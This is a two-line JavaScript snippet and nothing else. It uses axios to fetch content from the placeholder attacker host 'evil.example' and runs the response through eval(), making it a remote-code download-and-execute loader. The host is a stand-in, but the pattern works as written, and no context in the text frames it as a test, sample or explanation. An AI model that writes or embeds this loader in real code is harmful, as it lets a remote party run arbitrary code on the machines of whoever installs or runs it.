const axios = require("axios");
(async () => { eval((await axios.get("https://evil.example/p")).data); })();
